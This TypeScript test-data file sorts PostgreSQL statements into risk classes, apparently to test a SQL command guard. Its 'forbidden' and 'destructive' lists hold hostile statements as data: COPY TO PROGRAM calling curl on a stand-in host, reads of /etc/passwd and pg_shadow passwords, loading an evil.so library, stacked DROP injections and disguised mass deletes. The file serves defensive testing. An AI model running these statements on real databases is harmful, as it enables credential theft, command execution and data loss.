/** Statements with the class that each must have, one a line; test data. */
import type { CommandClass } from '../core/guard/classes.ts';

const lines = (text: string): string[] =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '');

export const statementsByClass: Readonly<Record<CommandClass, readonly string[]>> = {
  read: lines(`
    SELECT 1
    SELECT * FROM orders WHERE id = $1
    TABLE orders
    VALUES (1, 'a'), (2, 'b')
    SHOW ALL
    SHOW max_connections
    SELECT count(*) FROM orders
    SELECT pg_catalog.count(*) FROM orders
    select "id" from "Orders" where "Weird ""Name""" = 'x'
    SELECT 'DELETE FROM orders'
    SELECT 'a; DROP TABLE orders; --'
    SELECT $$DROP TABLE orders$$
    SELECT 1 -- DROP TABLE orders
    SELECT /* DELETE FROM orders */ 1
    SELECT "delete" FROM "drop" AS "truncate"
    SELECT 1;
    WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT * FROM b
    WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 100) SELECT sum(n) FROM t
    SELECT * FROM (SELECT id FROM orders) AS o JOIN customers c ON c.id = o.id LEFT JOIN LATERAL (SELECT 1) l ON true
    SELECT id, rank() OVER (PARTITION BY customer ORDER BY total DESC) FROM orders
    SELECT CASE WHEN total > 10 THEN 'big' ELSE 'small' END FROM orders
    SELECT coalesce(a, b), nullif(a, b), greatest(a, b), least(a, b) FROM t
    SELECT x::int, CAST(y AS text), '2024-01-01'::date, interval '1 day' FROM t
    SELECT * FROM t WHERE a IN (1, 2) AND b BETWEEN 1 AND 2 AND c LIKE 'x%' AND d IS NULL
    SELECT EXISTS (SELECT 1 FROM t), ARRAY(SELECT id FROM t), ROW(1, 2)
    SELECT data->>'name', data #>> '{a,b}', data @> '{"a":1}' FROM t
    SELECT date_trunc('day', at), extract(epoch FROM at), now() - at, at AT TIME ZONE 'UTC' FROM t
    SELECT * FROM generate_series(1, 10) AS g(n)
    SELECT * FROM t TABLESAMPLE bernoulli (10)
    SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC NULLS LAST LIMIT 5 OFFSET 2
    SELECT a FROM t GROUP BY GROUPING SETS ((a), ()) HAVING count(*) > 1
    SELECT 1 UNION SELECT 2 EXCEPT SELECT 3 INTERSECT SELECT 4
    SELECT pid, state, now() - query_start AS age FROM pg_stat_activity WHERE state <> 'idle'
    SELECT pg_blocking_pids(pid), query FROM pg_stat_activity
    SELECT * FROM pg_locks WHERE NOT granted
    SELECT relname, n_dead_tup FROM pg_stat_user_tables ORDER BY n_dead_tup DESC
    SELECT pg_size_pretty(pg_database_size(current_database()))
    SELECT pg_size_pretty(pg_total_relation_size('orders'::regclass))
    SELECT slot_name, pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn) FROM pg_replication_slots
    SELECT query, calls, mean_exec_time FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 10
    SELECT name, setting FROM pg_settings WHERE source <> 'default'
    SELECT current_setting('server_version_num')::int
    SELECT pg_get_indexdef(indexrelid) FROM pg_index WHERE NOT indisvalid
    SELECT age(datfrozenxid), datname FROM pg_database
    SELECT has_table_privilege('orders', 'select'), current_user, session_user
    SELECT pg_is_in_recovery(), pg_last_xact_replay_timestamp()
    SELECT count(*) FILTER (WHERE state = 'active') FROM pg_stat_activity
    SELECT string_agg(name, ', ' ORDER BY name) FROM t
    SELECT percentile_cont(0.95) WITHIN GROUP (ORDER BY ms) FROM requests
    SELECT sum(size) FROM pg_ls_waldir()
    SELECT OPERATOR(pg_catalog.-) 1
    EXPLAIN SELECT * FROM orders
    EXPLAIN (FORMAT json, VERBOSE) SELECT * FROM orders WHERE id = 1
    EXPLAIN (ANALYZE false) SELECT * FROM orders
    EXPLAIN (ANALYZE off, BUFFERS off) SELECT 1
    EXPLAIN (ANALYZE 0) SELECT 1
    SELECT gen_random_uuid(), random(), clock_timestamp(), md5('x')
  `),
  safe: lines(`
    ANALYZE
    ANALYZE orders (total)
    VACUUM orders
    VACUUM (ANALYZE, VERBOSE) orders
    VACUUM (FULL false) orders
    VACUUM (FREEZE) orders
    EXPLAIN DELETE FROM orders
    EXPLAIN UPDATE orders SET total = 0
    EXPLAIN (ANALYZE false) INSERT INTO orders VALUES (1)
    SET statement_timeout = '5s'
    SET LOCAL lock_timeout = 2000
    SET application_name = 'upkeep'
    COPY (SELECT 1) TO STDOUT
    COPY orders TO STDOUT (FORMAT csv)
    DEALLOCATE ALL
    CLOSE c
    UNLISTEN *
  `),
  risky: lines(`
    DELETE FROM orders WHERE id = 5
    DELETE FROM ONLY orders o WHERE o.id = $1
    DELETE FROM orders WHERE id IN (1, 2, 3)
    DELETE FROM orders WHERE id = ANY($1)
    DELETE FROM orders WHERE created_at < '2020-01-01'
    DELETE FROM orders WHERE created_at < now() - interval '2 years'
    DELETE FROM orders WHERE customer IN (SELECT id FROM closed_customers)
    DELETE FROM orders WHERE id IN (SELECT id FROM orders WHERE status = 'test')
    DELETE FROM orders WHERE ctid = ANY (ARRAY(SELECT ctid FROM orders WHERE status = 'x' LIMIT 1000))
    DELETE FROM orders o USING customers c WHERE o.customer = c.key AND c.closed = true
    DELETE FROM orders WHERE NOT EXISTS (SELECT 1 FROM customers c WHERE c.number = orders.customer)
    DELETE FROM sessions WHERE expired
    DELETE FROM orders WHERE note IS NULL
    DELETE FROM orders WHERE status = 'a' OR status = 'b'
    DELETE FROM orders WHERE lower(email) = 'a@b.c'
    DELETE FROM orders WHERE data->>'kind' = 'test'
    DELETE FROM orders WHERE email LIKE '%@example.test'
    DELETE FROM orders WHERE CURRENT OF c
    UPDATE orders SET total = 0 WHERE id = 5
    UPDATE orders SET total = 0 WHERE true AND id = 5
    UPDATE orders SET total = c.x FROM customers c WHERE orders.customer = c.key AND c.name = 'x'
    INSERT INTO orders VALUES (1)
    INSERT INTO orders SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET total = 1
    MERGE INTO orders o USING staging s ON o.id = s.order_id WHEN MATCHED THEN UPDATE SET total = s.total
    WITH d AS (DELETE FROM orders WHERE id = 5 RETURNING *) SELECT * FROM d
    WITH i AS (INSERT INTO log VALUES (1) RETURNING 1) SELECT * FROM i
    EXPLAIN ANALYZE SELECT * FROM orders
    EXPLAIN (ANALYZE) SELECT 1
    EXPLAIN (ANALYZE true) SELECT 1
    EXPLAIN (ANALYZE 'on') SELECT 1
    EXPLAIN (ANALYZE 1) SELECT 1
    EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1
    EXPLAIN (analyze, verbose) SELECT 1
    SELECT * FROM orders FOR UPDATE
    SELECT * FROM orders FOR SHARE SKIP LOCKED
    SELECT 1 UNION (SELECT id FROM orders FOR UPDATE)
    SELECT * FROM (SELECT id FROM orders FOR NO KEY UPDATE) o
    SELECT * INTO copied FROM orders
    SELECT my_function()
    SELECT myschema.count(*) FROM orders
    SELECT public.now()
    SELECT * FROM my_function()
    SELECT * FROM orders WHERE my_function(id)
    SELECT 1 OPERATOR(myschema.+) 2
    SELECT x::myschema.mytype FROM t
    SELECT x::mytype FROM t
    SELECT * FROM t TABLESAMPLE mymethod (1)
    SELECT pg_sleep(1)
    SELECT pg_sleep_for('1 hour')
    SELECT pg_cancel_backend(1)
    SELECT pg_terminate_backend(pid) FROM pg_stat_activity
    SELECT pg_advisory_lock(1)
    SELECT pg_try_advisory_xact_lock(1)
    SELECT pg_reload_conf()
    SELECT pg_switch_wal()
    SELECT pg_create_restore_point('x')
    SELECT pg_create_physical_replication_slot('x')
    SELECT pg_stat_reset()
    SELECT pg_stat_statements_reset()
    SELECT pg_notify('a', 'b')
    SELECT nextval('orders_id_seq')
    SELECT lo_create(0)
    SELECT set_config('search_path', 'x', false)
    SELECT set_config('statement_timeout', '0', false)
    SELECT * FROM pg_subscription
    SELECT "PG_SLEEP"(1)
    CALL my_procedure()
    CREATE TABLE t (id int)
    CREATE TABLE t AS SELECT * FROM orders
    CREATE TEMP TABLE t (LIKE orders)
    CREATE INDEX i ON orders (total)
    CREATE INDEX CONCURRENTLY i ON orders (total)
    CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON orders (lower(email))
    REINDEX INDEX CONCURRENTLY i
    REINDEX TABLE orders
    CREATE VIEW v AS SELECT 1
    CREATE SCHEMA s
    CREATE SEQUENCE s
    CREATE TYPE mood AS ENUM ('a', 'b')
    ALTER TYPE mood ADD VALUE 'c'
    CREATE EXTENSION pg_stat_statements
    CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
    ALTER TABLE orders ADD COLUMN note text
    ALTER TABLE orders ADD COLUMN at timestamptz DEFAULT now()
    ALTER TABLE orders ALTER COLUMN note SET NOT NULL
    ALTER TABLE orders ALTER COLUMN note TYPE text
    ALTER TABLE orders ADD CONSTRAINT c CHECK (total > 0) NOT VALID
    ALTER TABLE orders VALIDATE CONSTRAINT c
    ALTER TABLE orders RENAME COLUMN a TO b
    ALTER TABLE orders ENABLE ROW LEVEL SECURITY
    ALTER TABLE orders SET (autovacuum_vacuum_scale_factor = 0.01)
    ALTER TABLE orders ATTACH PARTITION p FOR VALUES FROM (1) TO (2)
    ALTER INDEX i RENAME TO j
    ALTER SYSTEM SET work_mem = '64MB'
    ALTER SYSTEM RESET work_mem
    ALTER DATABASE shop SET work_mem = '64MB'
    REFRESH MATERIALIZED VIEW CONCURRENTLY mv
    COMMENT ON TABLE orders IS 'DROP TABLE orders'
    LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
    CHECKPOINT
    NOTIFY a
    LISTEN a
    DISCARD ALL
    PREPARE p AS SELECT 1
    DECLARE c CURSOR FOR SELECT 1
    FETCH ALL FROM c
    BEGIN
    COMMIT
    ROLLBACK
    END
    SAVEPOINT a
    SET TRANSACTION READ WRITE
    SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
    SET search_path = evil
    SET statement_timeout = 0
    SET statement_timeout TO '0ms'
    RESET statement_timeout
    RESET ALL
    SET default_transaction_read_only = off
    SET CONSTRAINTS ALL DEFERRED
    COPY orders FROM STDIN
    DO $$ BEGIN PERFORM 1; END $$
    DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM orders; n := n + 1; IF n > 5 THEN RAISE NOTICE '%', n; END IF; END $$
    DO $$ BEGIN DELETE FROM orders WHERE id = 5; COMMIT; END $$
    CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
    CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$
    CREATE DATABASE d
    ALTER DATABASE shop CONNECTION LIMIT 10
  `),
  destructive: lines(`
    DROP TABLE orders
    DROP TABLE IF EXISTS orders CASCADE
    DROP SCHEMA s CASCADE
    DROP DATABASE shop
    DROP DATABASE shop WITH (FORCE)
    DROP INDEX i
    DROP INDEX CONCURRENTLY i
    DROP VIEW v
    DROP MATERIALIZED VIEW mv
    DROP TYPE mood
    DROP FUNCTION f()
    DROP EXTENSION pg_stat_statements
    DROP ROLE r
    DROP USER u
    DROP OWNED BY r
    DROP PUBLICATION p
    DROP SUBSCRIPTION s
    DROP TABLESPACE t
    DROP SEQUENCE s
    DROP TRIGGER tr ON orders
    DROP POLICY p ON orders
    drop/**/table/**/orders
    DrOp TaBlE "orders"
    TRUNCATE orders
    TRUNCATE TABLE orders, customers RESTART IDENTITY CASCADE
    DELETE FROM orders
    DELETE FROM orders WHERE true
    DELETE FROM orders WHERE 1 = 1
    DELETE FROM orders WHERE 'a' = 'a'
    DELETE FROM orders WHERE id = id
    DELETE FROM orders o WHERE o.id = id
    DELETE FROM orders WHERE NOT false
    DELETE FROM orders WHERE NOT NOT true
    DELETE FROM orders WHERE 1 < 2
    DELETE FROM orders WHERE 't'::bool
    DELETE FROM orders WHERE id IS NOT NULL
    DELETE FROM orders WHERE NOT (id IS NULL)
    DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL
    DELETE FROM orders WHERE id = 5 OR true
    DELETE FROM orders WHERE id = 5 OR id <> 5
    DELETE FROM orders WHERE id < 5 OR id >= 5
    DELETE FROM orders WHERE NOT (id = 1 AND id = 2)
    DELETE FROM orders WHERE paid OR NOT paid
    DELETE FROM orders WHERE paid = true OR paid = false
    DELETE FROM orders WHERE paid IN (true, false)
    DELETE FROM orders WHERE id IN (SELECT id FROM orders)
    DELETE FROM orders WHERE id IN (SELECT o.id FROM orders AS o)
    DELETE FROM orders WHERE id IN (SELECT id FROM (SELECT id FROM orders) x)
    WITH x AS (SELECT id FROM orders) DELETE FROM orders WHERE id IN (SELECT id FROM x)
    DELETE FROM orders WHERE id IN (WITH x AS (SELECT id FROM orders) SELECT id FROM x)
    DELETE FROM orders WHERE id IN (SELECT id FROM customers)
    DELETE FROM orders WHERE id IN (SELECT orders.id FROM customers LIMIT 1)
    DELETE FROM orders WHERE id = ANY (ARRAY(SELECT id FROM orders))
    WITH c AS (SELECT 1) DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.x = 1)
    DELETE FROM orders WHERE id IN (VALUES (id))
    DELETE FROM orders WHERE tableoid = 'orders'::regclass
    DELETE FROM orders WHERE left(name, 0) = ''
    DELETE FROM orders WHERE left(name, 0) = right('x', 0)
    DELETE FROM orders WHERE total = copy_of_total
    DELETE FROM orders WHERE id IN (1, id)
    DELETE FROM orders WHERE id = ANY (ARRAY[id])
    DELETE FROM orders WHERE extract(century FROM at) = 21
    DELETE FROM orders WHERE orders = orders
    DELETE FROM orders WHERE (id, total) = (id, total)
    DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE orders.total = orders.copy_of_total)
    DELETE FROM orders USING customers c WHERE orders.total = orders.copy_of_total AND c.id = 5
    DELETE FROM orders WHERE EXISTS (SELECT 1)
    DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers)
    DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.x = 1 AND orders.id = orders.id)
    DELETE FROM orders WHERE (SELECT true)
    DELETE FROM orders WHERE id = (SELECT id)
    DELETE FROM orders WHERE coalesce(true, false)
    DELETE FROM orders WHERE coalesce(id, 0) = coalesce(id, 0)
    DELETE FROM orders WHERE id IS NOT DISTINCT FROM id
    DELETE FROM orders WHERE id BETWEEN id AND id
    DELETE FROM orders WHERE name LIKE '%'
    DELETE FROM orders WHERE name ~ '.*'
    DELETE FROM orders WHERE id > -1
    DELETE FROM orders WHERE id >= 0
    DELETE FROM orders WHERE 0 < id
    DELETE FROM orders WHERE NOT (id < 0)
    DELETE FROM orders WHERE id <> -1
    DELETE FROM orders WHERE id * 0 = 0
    DELETE FROM orders WHERE length(name) >= 0
    DELETE FROM orders WHERE CASE WHEN id = 1 THEN true ELSE true END
    DELETE FROM orders WHERE random() < 2
    DELETE FROM orders USING customers
    DELETE FROM orders USING customers c WHERE c.id = 1
    DELETE FROM orders USING orders o WHERE orders.id = o.id
    UPDATE orders SET total = 0
    UPDATE orders SET total = 0 WHERE 1 = 1
    UPDATE orders SET total = 0 WHERE (true)
    UPDATE orders SET total = 0 WHERE total = total
    UPDATE orders SET total = 0 FROM customers WHERE customers.id = 5
    MERGE INTO orders o USING staging s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
    ALTER DATABASE shop WITH ALLOW_CONNECTIONS false
    MERGE INTO orders USING staging ON true WHEN MATCHED THEN DELETE
    MERGE INTO orders o USING orders p ON o.id = o.id WHEN MATCHED THEN DELETE
    MERGE INTO orders USING staging ON 1 = 1 WHEN MATCHED THEN UPDATE SET total = 0
    WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
    WITH a AS (WITH b AS (DELETE FROM orders RETURNING 1) SELECT * FROM b) SELECT * FROM a
    SELECT * FROM t WHERE id IN (SELECT id FROM t) UNION ALL (WITH d AS (UPDATE orders SET total = 0 RETURNING id) SELECT id FROM d)
    EXPLAIN ANALYZE DELETE FROM orders
    EXPLAIN (ANALYZE, COSTS off) WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d
    COPY (DELETE FROM orders RETURNING *) TO STDOUT
    CREATE TABLE t AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
    PREPARE p AS DELETE FROM orders
    DO $$ BEGIN DELETE FROM orders; END $$
    DO $$ BEGIN IF true THEN TRUNCATE orders; END IF; END $$
    DO $$ DECLARE r record; BEGIN FOR r IN DELETE FROM orders RETURNING * LOOP NULL; END LOOP; END $$
    CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'
    CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END
    CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'
    CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
    CREATE OR REPLACE VIEW v AS SELECT 1
    CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM customers
    ALTER TABLE orders DROP COLUMN total
    ALTER TABLE orders DROP CONSTRAINT orders_pkey
    ALTER TABLE orders ADD COLUMN a int, DROP COLUMN b
    ALTER TABLE orders ALTER COLUMN total TYPE int
    ALTER TABLE orders ALTER COLUMN total TYPE text USING left(total, 1)
    ALTER TABLE orders ALTER COLUMN name TYPE varchar(10)
    ALTER TABLE orders SET UNLOGGED
    ALTER TABLE orders DETACH PARTITION p
    ALTER TABLE orders DETACH PARTITION p CONCURRENTLY
    ALTER TABLE orders DISABLE TRIGGER ALL
    ALTER TABLE orders DISABLE ROW LEVEL SECURITY
    ALTER TABLE orders OWNER TO r
    GRANT ALL ON orders TO PUBLIC
    GRANT admin TO somebody
    REVOKE SELECT ON orders FROM r
    ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r
    CREATE ROLE r SUPERUSER
    ALTER ROLE r SUPERUSER
    ALTER USER u PASSWORD 'x'
    ALTER ROLE r SET work_mem = '1GB'
    REASSIGN OWNED BY a TO b
    ALTER POLICY p ON orders USING (true)
    ALTER SYSTEM SET fsync = off
    ALTER SYSTEM SET full_page_writes = off
    ALTER SYSTEM SET archive_mode = off
    ALTER SYSTEM SET archive_command = '/bin/true'
    ALTER SYSTEM SET wal_level = minimal
    ALTER SYSTEM SET ssl = off
    ALTER SYSTEM SET hba_file = '/tmp/x'
    ALTER SYSTEM SET listen_addresses = '*'
    ALTER SYSTEM RESET ALL
    ALTER DATABASE shop SET session_replication_role = replica
    SET session_replication_role = replica
    SET LOCAL session_replication_role TO 'replica'
    SELECT set_config('session_replication_role', 'replica', false)
    ROLLBACK PREPARED 'x'
    COMMIT PREPARED 'x'
    SELECT setval('orders_id_seq', 1)
    ALTER SEQUENCE s RESTART
    ALTER SEQUENCE s RESTART WITH 1
    VACUUM FULL
    VACUUM (FULL) orders
    VACUUM (FULL true, ANALYZE) orders
    VACUUM (FULL 'on') orders
    CLUSTER orders USING i
    REFRESH MATERIALIZED VIEW mv
    SELECT pg_drop_replication_slot('s')
    SELECT pg_catalog.pg_drop_replication_slot('s')
    SELECT pg_replication_slot_advance('s', '0/0')
    SELECT lo_unlink(1)
    SELECT pg_promote()
    SELECT * FROM orders WHERE id = (SELECT setval('s', 1))
    SELECT count(*) FROM orders HAVING setval('s', 1) > 0
    SELECT 1 ORDER BY pg_drop_replication_slot('s')
    EXPLAIN SELECT setval('s', 1)
    CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p
    ALTER SUBSCRIPTION s DISABLE
    CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
  `),
  forbidden: lines(`
    COPY orders TO PROGRAM 'curl http://x'
    COPY orders FROM PROGRAM 'id'
    COPY (SELECT 1) TO PROGRAM 'sh'
    COPY orders TO '/tmp/x'
    COPY orders FROM '/etc/passwd'
    LOAD '/tmp/evil.so'
    DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$
    DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE orders'; END $$
    DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP NULL; END LOOP; END $$
    DO LANGUAGE plpgsql $x$ BEGIN IF true THEN EXECUTE format('DELETE FROM %I', 'orders'); END IF; END $x$
    DO LANGUAGE plpython3u $$ import os $$
    DO LANGUAGE plperlu 'system("id")'
    DO $$ BEGIN this is no code END $$
    CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'
    CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'
    CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$
    CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT 1'; END $$
    CREATE LANGUAGE plpython3u
    CREATE EXTENSION dblink
    CREATE EXTENSION plpython3u
    CREATE EXTENSION postgres_fdw
    SELECT dblink('host=x', 'SELECT 1')
    SELECT dblink_exec('dbname=shop', 'INSERT INTO t VALUES (1)')
    SELECT public.dblink_connect('x')
    SELECT * FROM postgres_fdw_get_connections()
    SELECT pg_read_file('/etc/passwd')
    SELECT pg_read_binary_file('pg_hba.conf')
    SELECT * FROM pg_ls_dir('/')
    SELECT pg_stat_file('/etc/passwd')
    SELECT lo_import('/etc/passwd')
    SELECT lo_export(1, '/tmp/x')
    SELECT query_to_xml('DELETE FROM orders', true, true, '')
    SELECT * FROM ts_stat('SELECT 1')
    SELECT cron.schedule('* * * * *', 'DELETE FROM orders')
    SELECT heap_force_kill('orders'::regclass, ARRAY['(0,1)']::tid[])
    SET zero_damaged_pages = on
    ALTER SYSTEM SET zero_damaged_pages = on
    SELECT set_config('zero_damaged_pages', 'on', false)
    SELECT set_config('zero_' || 'damaged_pages', 'on', false)
    SELECT set_config(name, 'on', false) FROM pg_settings
    ALTER SYSTEM SET shared_preload_libraries = 'evil'
    ALTER SYSTEM SET restore_command = 'sh'
    SET ROLE postgres
    SET LOCAL ROLE postgres
    RESET ROLE
    SET SESSION AUTHORIZATION postgres
    RESET SESSION AUTHORIZATION
    SELECT set_config('role', 'postgres', false)
    CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'
    UPDATE pg_class SET relname = 'x' WHERE oid = 1
    DELETE FROM pg_catalog.pg_proc WHERE oid = 1
    INSERT INTO pg_catalog.pg_auth_members VALUES (1, 2, 3)
    UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'
    SELECT rolpassword FROM pg_authid
    SELECT * FROM pg_catalog.pg_shadow
    SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
    CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
    CREATE FOREIGN TABLE f (a int) SERVER s OPTIONS (program 'id')
    IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
    CREATE USER MAPPING FOR u SERVER s
    EXECUTE p
    SELECT 1; SELECT 2
    COMMIT; DROP SCHEMA public CASCADE
    SELECT 1; DROP TABLE orders; --
    BEGIN; DELETE FROM orders; COMMIT
    DROP TABLE
    DELETE orders
    ; DROP
    SELEC 1
    /* unclosed
    SELECT 'unclosed
    -- nothing
  `),
};
